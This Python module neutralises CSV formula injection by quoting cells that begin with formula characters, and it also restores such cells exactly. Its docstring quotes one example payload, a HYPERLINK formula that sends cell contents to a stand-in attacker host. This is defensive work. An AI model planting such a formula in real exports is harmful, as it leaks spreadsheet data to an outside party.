"""CSV cells that are safe to open in a spreadsheet: the one rule of every CSV Sherlock writes.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets (`=HYPERLINK("http://attacker.example/?"&A1, ...)` in a
case input, a tag or an audit reason). OWASP's advice ("CSV Injection") is to write such a cell
with a single quote ahead, which spreadsheets show as text. So that the quote can be undone
exactly, a cell that already starts with quotes and then one of those characters (`'=1`) gets
one more quote too (`''=1`), and `restore_cell` drops exactly one: every written cell reads
back as it was (the case import does, docs/cases.md; the audit export's cells are restored the
same way before re-computing a hash from a CSV file, docs/governance.md).

The case CSV writer (`evaluations.cases_io.csv_format`), the audit export
(`governance.audit.export`) and `manage.py export_run --format csv` call these functions.
"""

import csv
import re
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Any

# A cell a spreadsheet would run, after any quotes a writer put ahead of it.
FORMULA = re.compile(r"'*[=+\-@\t\r]")


def neutralise_cell(cell: Any) -> Any:
    """`cell` as a CSV writer writes it: one more `'` ahead of a cell a spreadsheet would run,
    or ahead of one that starts with quotes and then such a character. A number or None is not
    text a spreadsheet reads as a formula (`-1` is a number): it is returned as it is."""
    if isinstance(cell, str) and FORMULA.match(cell):
        return f"'{cell}"
    return cell


def restore_cell(cell: str) -> str:
    """`cell` as it was before `neutralise_cell`: one `'` dropped ahead of quotes and a formula
    character (`'=1` reads `=1`, `''=1` reads `'=1`); any other cell as it is."""
    return cell[1:] if cell.startswith("'") and FORMULA.match(cell, 1) else cell


class SafeWriter:
    """`csv.writer` whose rows have every cell neutralised (`neutralise_cell`)."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self.writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self.writer.writerow([neutralise_cell(cell) for cell in row])


if TYPE_CHECKING:
    _DictWriter = csv.DictWriter[str]
else:
    _DictWriter = csv.DictWriter  # not subscriptable at run time before Python 3.12


class SafeDictWriter(_DictWriter):
    """`csv.DictWriter` whose rows have every cell neutralised (`neutralise_cell`); the header
    is the writer's own field names."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({name: neutralise_cell(v) for name, v in rowdict.items()})
